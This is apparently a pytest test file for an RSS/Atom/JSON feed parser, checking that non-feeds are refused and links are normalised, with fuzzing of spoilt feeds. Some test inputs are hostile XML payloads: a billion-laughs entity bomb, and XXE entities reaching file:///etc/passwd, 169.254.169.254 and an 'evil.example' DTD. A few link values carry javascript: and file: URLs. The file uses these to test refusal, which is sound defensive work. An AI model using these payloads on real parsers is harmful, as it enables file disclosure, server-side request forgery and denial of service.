"""Feeds to entries: pairs of files in tests/data/feeds, and what must not get through."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from monitor.core.entries import ParsedFeed
from monitor.sources.feeds import parse_feed
from monitor.sources.unreadable import Unreadable
from tests.sources.hostile import RSS

FEEDS = Path("tests/data/feeds")
CASES = sorted(FEEDS.glob("*.expected.json"))


def document(case: Path) -> Path:
    (found,) = (path for path in FEEDS.glob(f"{case.name.removesuffix('.expected.json')}.*") if path != case)
    return found


def rss(items: str, head: str = "", prolog: str = "") -> bytes:
    return f'<?xml version="1.0"?>{prolog}<rss version="2.0"><channel>{head}{items}</channel></rss>'.encode()


def parse(body: bytes, url: str = "https://news.example.org/feed", content_type: str | None = None) -> ParsedFeed:
    return parse_feed(body, url, content_type)


def refused(body: bytes, **options: Any) -> str:
    with pytest.raises(Unreadable) as caught:
        parse(body, **options)
    return str(caught.value)


def test_there_are_cases() -> None:
    assert len(CASES) >= 9


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.name.removesuffix(".expected.json"))
def test_case(case: Path) -> None:
    expected = json.loads(case.read_text("utf-8"))
    found = json.loads(msgspec.json.encode(parse(document(case).read_bytes(), expected.pop("base_url"))))
    entries = expected.pop("entries")
    assert {key: found[key] for key in expected} == expected
    assert [{key: entry[key] for key in wanted} for entry, wanted in zip(found["entries"], entries, strict=True)] == (
        entries
    )


def test_ids_stay_letter_for_letter_wherever_the_feed_lies() -> None:
    body = rss("<item><guid>t3_157kyrd</guid><title>a</title></item><item><guid>../up?x</guid><title>b</title></item>")
    for url in ("https://one.example.org/feed", "https://two.example.org/other/feed"):
        assert [entry.raw_id for entry in parse(body, url).entries] == ["t3_157kyrd", "../up?x"]


def test_a_body_that_is_a_path_reads_no_file() -> None:
    assert refused(b"/etc/passwd") == "is neither XML nor JSON, so no feed"
    here = str((FEEDS / "ministry.rss").resolve()).encode()
    assert refused(here) == "is neither XML nor JSON, so no feed"


# --- what is no feed


@pytest.mark.parametrize(
    ("body", "words"),
    [
        (b"", "is empty"),
        (b" \r\n\t", "is empty"),
        (b"<!DOCTYPE html><html><body>Please log in</body></html>", "is an HTML page, not a feed"),
        (b"\xef\xbb\xbf<HTML lang=en><head>", "is an HTML page, not a feed"),
        (b"<opml version='1.0'><body/></opml>", "is XML with the root 'opml', which is no feed known here"),
        (b"<!-- <rss> --><svg/>", "is XML with the root 'svg', which is no feed known here"),
        (b"hello", "is neither XML nor JSON, so no feed"),
        (b"%PDF-1.7", "is neither XML nor JSON, so no feed"),
        (b"\x00" * 100, "is neither XML nor JSON, so no feed"),
        (b'{"error": "not found"}', "is JSON, but no JSON Feed: it has no list of items"),
        (b"[1,2]", "is JSON, but no JSON Feed: it has no list of items"),
        (b'{"items": ', "is JSON that cannot be read: Input data was truncated"),
        (b"[" * 100_000, "is JSON that cannot be read"),
    ],
)
def test_what_is_no_feed_is_named(body: bytes, words: str) -> None:
    assert refused(body).startswith(words)


def test_a_page_that_names_its_feeds_is_of_help() -> None:
    page = (
        b'<!doctype html><link rel="alternate" type="application/rss+xml" href="/a.xml?x=1&amp;y=2">'
        b"<link type='application/atom+xml' rel=alternate href='https://x.example/b'>"
        b'<link rel="stylesheet" href="/no.css">'
    )
    assert refused(page) == (
        "is an HTML page, not a feed; it names https://news.example.org/a.xml?x=1&y=2, https://x.example/b"
    )


def test_a_feed_whose_text_speaks_of_html_is_a_feed() -> None:
    assert len(parse(rss("<item><title>x</title><description><![CDATA[<html>]]></description></item>")).entries) == 1


# --- entities


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


@pytest.mark.parametrize(
    "declarations",
    [
        '<!ENTITY l0 "lol">' + LAUGHS,
        '<!ENTITY x SYSTEM "file:///etc/passwd">',
        '<!ENTITY x PUBLIC "-//x//" "http://169.254.169.254/">',
        '<!ENTITY % p SYSTEM "http://evil.example/dtd"> %p;',
        f'<!ENTITY x "{"y" * 100_000}">',
        "".join(f'<!ENTITY e{n} "x">' for n in range(400)),
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_entities_that_grow_or_reach_out_are_refused_before_parsing(declarations: str, encoding: str) -> None:
    body = rss("<item><title>&x;&l9;</title></item>", prolog=f"<!DOCTYPE rss [{declarations}]>")
    assert "declares XML entities" in refused(
        body.decode().replace('"1.0"', f'"1.0" encoding="{encoding}"').encode(encoding)
    )


@pytest.mark.parametrize("before", ["<!-- <rss> -->", "<?x <rss> ?>", "<?x > <!-- ?>"])
def test_entities_are_not_hidden_behind_what_looks_like_a_root(before: str) -> None:
    body = rss("<item><title>&l9;</title></item>", prolog=f'{before}<!DOCTYPE rss [<!ENTITY l0 "lol">{LAUGHS}]>')
    assert "declares XML entities" in refused(body)


def test_an_article_about_entities_is_read() -> None:
    entry = parse(rss('<item><title>x</title><description><![CDATA[<!ENTITY a "b">]]></description></item>')).entries
    assert len(entry) == 1


def test_an_undeclared_entity_is_no_reason_to_lose_entries() -> None:
    assert [entry.title for entry in parse(rss("<item><title>Caf&eacute;</title></item>")).entries] == ["Café"]


# --- single traits


@pytest.mark.parametrize(
    ("link", "url"),
    [
        ("https://a.example/x y", "https://a.example/x y"),
        ("//a.example/x", "https://a.example/x"),
        ("?p=7", "https://news.example.org/feed?p=7"),
        ("javascript:alert(1)", None),
        ("file:///etc/passwd", None),
        ("data:text/html,x", None),
        ("http://[::1", None),
        ("", None),
    ],
)
def test_links_are_whole_web_addresses_or_none(link: str, url: str | None) -> None:
    assert parse(rss(f"<item><title>x</title><link>{link}</link></item>")).entries[0].url == url


def test_the_longest_of_what_an_entry_offers_is_its_text() -> None:
    item = "<item><title>x</title><description>{}</description><content:encoded>{}</content:encoded></item>"
    namespace = '<rss xmlns:content="http://purl.org/rss/1.0/modules/content/"'
    for summary, content in (("short", "much longer"), ("much longer", "short")):
        body = rss(item.format(summary, content)).replace(b"<rss", namespace.encode())
        assert parse(body).entries[0].text == "much longer"


def test_one_odd_entry_or_element_costs_no_other() -> None:
    odd = '<x:y xmlns:x="a b c">z</x:y><item><title>odd &lt;![foo&gt;</title><link/></item></image></link></source>'
    feed = parse(rss(f"<item><title>one</title></item>{odd}<item><title>two</title></item>"))
    assert {"one", "two"} <= {entry.title for entry in feed.entries}


def test_a_wrong_content_type_changes_nothing() -> None:
    for content_type in ("text/html", "text/plain; charset=us-ascii", "application/octet-stream", "nonsense", ""):
        assert len(parse(RSS, content_type=content_type).entries) == 1


def test_leading_rubbish_and_trailing_comments_are_forgiven() -> None:
    feed = parse(b"\n\n  " + RSS + b"\n<!-- cached 10:00 -->\n")
    assert [entry.title for entry in feed.entries] == ["One"]
    assert feed.complete


def test_fifty_thousand_entries_are_kept_and_more_are_said() -> None:
    feed = parse(rss("<item/>" * 50_010))
    assert len(feed.entries) == 50_000
    assert feed.faults == ("50,010 entries; the first 50,000 are kept",)


def test_a_json_feed_with_an_address_that_is_none_keeps_its_entries_and_ids_letter_for_letter() -> None:
    body = (
        b'{"version":"https://jsonfeed.org/version/1","feed_url":"http://[bad",'
        b'"items":[{"id":1.50,"url":"/a"},{"id":"","url":"/b"},{"id":7}]}'
    )
    entries = parse(body).entries
    assert [entry.raw_id for entry in entries] == ["1.50", None, "7"]
    assert entries[0].url is not None
    assert entries[0].url.endswith("/a")


def test_a_truncated_json_feed_gives_its_whole_items() -> None:
    body = b'{"version":"https://jsonfeed.org/version/1","items":[{"id":"1","title":"One"},{"id":"2","ti'
    feed = parse(body)
    assert ([entry.raw_id for entry in feed.entries], feed.complete) == (["1"], False)
    assert "not sound JSON" in feed.faults[0]


# --- fuzz

SAMPLES = [document(case).read_bytes() for case in CASES]


def _fuzz(body: bytes, cuts: list[tuple[int, int, bytes]]) -> None:
    for at, length, put in cuts:
        at %= len(body) + 1
        body = body[:at] + put + body[at + length :]
    try:
        feed = parse(body)
    except Unreadable:
        return
    msgspec.msgpack.encode(feed)
    for entry in feed.entries:
        (entry.title + entry.text + (entry.raw_id or "") + (entry.url or "")).encode("utf-8")


mutations = st.lists(
    st.tuples(
        st.integers(0, 5000),
        st.integers(0, 40),
        st.sampled_from(
            [b"", b"<", b">", b"&", b"]]>", b"<![CDATA[", b"\x00", b"\xff", b"</item>", b"<item>", b'"', b"&#xd800;"]
        )
        | st.binary(max_size=8),
    ),
    min_size=1,
    max_size=6,
)


@settings(max_examples=500)
@given(st.sampled_from(SAMPLES), mutations)
def test_fuzz_spoilt_feeds_are_read_or_refused(body: bytes, cuts: list[tuple[int, int, bytes]]) -> None:
    _fuzz(body, cuts)


@pytest.mark.soak
@pytest.mark.timeout(7200)
@settings(max_examples=100_000)
@given(st.sampled_from(SAMPLES), mutations)
def test_fuzz_soak(body: bytes, cuts: list[tuple[int, int, bytes]]) -> None:
    _fuzz(body, cuts)
